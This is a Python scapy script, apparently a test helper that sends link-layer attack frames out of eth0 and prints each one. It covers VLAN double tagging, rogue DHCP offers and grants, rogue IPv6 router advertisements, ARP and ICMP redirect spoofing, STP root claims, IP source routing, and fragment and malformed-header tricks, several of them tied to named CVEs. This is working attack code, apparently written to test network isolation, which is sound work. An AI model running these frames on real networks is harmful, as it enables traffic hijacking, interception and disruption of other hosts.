"""Sends the frames of one attack on eth0 and prints each, with its name: see scapy.rs."""

import sys

from scapy.config import conf
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import ICMP, IP, TCP, UDP, IPOption_LSRR, IPOption_RR, IPOption_Router_Alert, IPOption_SSRR
from scapy.layers.inet import IPOption_Timestamp
from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6
from scapy.layers.l2 import ARP, GRE, LLC, SNAP, STP, Dot1AD, Dot1Q, Dot3, Ether
from scapy.packet import Raw

attack, gateway_mac, gateway, me, victim_mac, victim = sys.argv[1:]
link = conf.L2socket(iface="eth0")
EVERYONE = "ff:ff:ff:ff:ff:ff"


def ether(to, **more):
    return Ether(src=mac, dst=to, **more)


def ip(**more):
    return IP(**{"src": me, "dst": gateway, "id": 0x5afe, **more})


def udp(text):
    return UDP(sport=4004, dport=4005) / Raw(text)


def dhcp(kind, option):
    granted = BOOTP(op=2, xid=0x5afe, chaddr=bytes.fromhex(victim_mac.replace(":", "")), yiaddr=victim, siaddr=me)
    options = [("message-type", kind), ("server_id", option), ("lease_time", 600), ("router", me), "end"]
    return granted / DHCP(options=options)


def types():
    """What is not plain ARP or IPv4 right behind the MACs: CVE-2021-27853, -27854, -27861, -27862 and kin."""
    inner = ip() / udp(b"inside")
    snap = LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / SNAP(OUI=0, code=0x0800) / inner
    claim = ARP(op=2, hwsrc=mac, psrc=gateway, hwdst=victim_mac, pdst=victim)
    yield "a VLAN tag", ether(gateway_mac) / Dot1Q(vlan=7) / inner
    yield "a priority tag", ether(gateway_mac) / Dot1Q(vlan=0, prio=5) / inner
    yield "a tag in a provider's tag", ether(gateway_mac, type=0x88A8) / Dot1AD(vlan=3) / Dot1Q(vlan=7) / inner
    yield "ARP in a VLAN tag", ether(EVERYONE) / Dot1Q(vlan=7) / claim
    yield "802.3 with SNAP", Dot3(src=mac, dst=gateway_mac) / snap
    yield "802.3 with SNAP and a lying length", Dot3(src=mac, dst=gateway_mac, len=46) / snap
    yield "802.3 with LLC alone", Dot3(src=mac, dst=gateway_mac) / LLC(dsap=6, ssap=6, ctrl=3) / inner
    yield "a bridge that wants to be the root", Dot3(src=mac, dst="01:80:c2:00:00:00") / LLC() / STP(rootid=0)
    yield "an IPv6 router advertisement", advertisement()
    yield "an IPv6 neighbour advertisement", (
        ether("33:33:00:00:00:01") / IPv6(src="fe80::66", dst="ff02::1") / ICMPv6ND_NA(tgt="fe80::1", R=1, S=0, O=1)
    )
    for name, kind in [("MPLS", 0x8847), ("PPPoE discovery", 0x8863), ("802.1X", 0x888E), ("MACsec", 0x88E5)]:
        yield name, ether(gateway_mac, type=kind) / inner


def options():
    """IPv4 options: source routes and what else routers act on."""
    for option in [
        IPOption_LSRR(routers=[victim]),
        IPOption_SSRR(routers=[victim]),
        IPOption_RR(routers=["0.0.0.0"] * 3),
        IPOption_Timestamp(internet_address="0.0.0.0", flg=1),
        IPOption_Router_Alert(),
    ]:
        yield f"option {type(option).__name__}", ether(gateway_mac) / ip(options=[option]) / udp(b"with options")


def fragments():
    """Fragments that a reassembly somewhere could be tricked with: RFC 1858, RFC 3128, ping of death."""
    segment = bytes(TCP(sport=4004, dport=80, flags="S"))
    more = {"flags": "MF", "proto": 6}
    yield "a tiny first TCP fragment", ether(gateway_mac) / ip(**more) / Raw(segment[:8])
    yield "a TCP fragment over the flags", ether(gateway_mac) / ip(proto=6, frag=1) / Raw(segment[8:])
    yield "a fragment that ends behind 65535", ether(gateway_mac) / ip(proto=17, frag=8189) / Raw(b"x" * 400)
    yield "a fragment in the middle, not of whole eights", ether(gateway_mac) / ip(flags="MF", proto=17) / Raw(b"x" * 13)
    whole = bytes(UDP(sport=68, dport=67) / BOOTP(chaddr=bytes.fromhex(mac.replace(":", ""))))
    yield "DHCP in fragments", (
        ether(EVERYONE) / ip(src="0.0.0.0", dst="255.255.255.255", flags="MF", proto=17) / Raw(whole[:64])
    )


def lies():
    """Headers that do not say what is there."""
    data = Raw(b"0123456789abcdef" * 2)
    yield "IHL behind the end", ether(gateway_mac) / ip(ihl=15, proto=17) / Raw(b"x" * 8)
    yield "IHL of 4", ether(gateway_mac) / ip(ihl=4) / udp(b"short")
    yield "version 6 in an IPv4 frame", ether(gateway_mac, type=0x0800) / ip(version=6) / udp(b"six")
    yield "a total length behind the end", ether(gateway_mac) / ip(len=1400) / udp(b"long")
    yield "a total length below the header", ether(gateway_mac) / ip(len=19) / udp(b"short")
    yield "a wrong checksum", ether(gateway_mac) / ip(chksum=0x1234) / udp(b"wrong")
    yield "a UDP length behind the end", ether(gateway_mac) / ip() / UDP(sport=4004, dport=4005, len=900) / data
    yield "a UDP length below its header", ether(gateway_mac) / ip() / UDP(sport=4004, dport=4005, len=7) / data
    yield "a TCP data offset behind the end", ether(gateway_mac) / ip() / TCP(dport=80, dataofs=15)
    yield "a TCP data offset of 1", ether(gateway_mac) / ip() / TCP(dport=80, dataofs=1)


def names():
    """Sound frames in the name of others."""
    yield "from the gateway", ether(gateway_mac) / ip(src=gateway, dst="93.184.215.14") / udp(b"not mine")
    yield "from the victim", ether(gateway_mac) / ip(src=victim) / udp(b"not mine")
    yield "from loopback", ether(gateway_mac) / ip(src="127.0.0.1") / udp(b"not mine")
    yield "from nobody", ether(gateway_mac) / ip(src="0.0.0.0") / udp(b"not mine")
    yield "from a group", ether(gateway_mac) / ip(src="224.0.0.1") / udp(b"not mine")
    yield "from everyone", ether(gateway_mac) / ip(src="255.255.255.255") / udp(b"not mine")
    yield "from the victim's MAC", Ether(src=victim_mac, dst=gateway_mac) / ip(src=victim) / udp(b"not mine")
    yield from offer()
    yield "a DHCP grant in the gateway's name", (
        ether(victim_mac) / ip(src=gateway, dst=victim) / UDP(sport=67, dport=68) / dhcp("ack", gateway)
    )
    yield "a redirect in the gateway's name", next(redirect())[1]
    yield "a redirect in its own", ether(gateway_mac) / ip() / ICMP(type=5, code=1, gw=me) / ip(src=gateway) / ICMP()
    yield "a tunnel around a neighbour's datagram", (
        ether(victim_mac) / ip(dst=victim) / GRE() / IP(src=gateway, dst=victim) / udp(b"inside")
    )


def advertisement():
    return (
        ether("33:33:00:00:00:01")
        / IPv6(src="fe80::66", dst="ff02::1")
        / ICMPv6ND_RA(routerlifetime=1800)
        / ICMPv6NDOptSrcLLAddr(lladdr=mac)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:66::", prefixlen=64)
    )


def advertise():
    """The attacker is the IPv6 router of the link: CVE-2020-13401."""
    yield "an IPv6 router advertisement", advertisement()


def offer():
    """The attacker grants an address and is the router: CVE-2024-3661."""
    yield "a DHCP offer", ether(EVERYONE) / ip(dst="255.255.255.255") / UDP(sport=67, dport=68) / dhcp("offer", me)


def redirect():
    """The attacker is the better way to the world, says the gateway."""
    # About an answer to a ping: of anything else, the victim would look for the socket that has sent it.
    quoted = IP(src=victim, dst="93.184.215.14", id=7) / ICMP(type=0) / Raw(b"quoted")
    yield "a redirect", ether(victim_mac) / ip(src=gateway, dst=victim) / ICMP(type=5, code=1, gw=me) / quoted


mac = link.ins.getsockname()[4].hex(":")
for title, frame in globals()[attack]():
    octets = bytes(frame).ljust(60, b"\0")
    link.send(Raw(octets))
    print(octets.hex(), title)
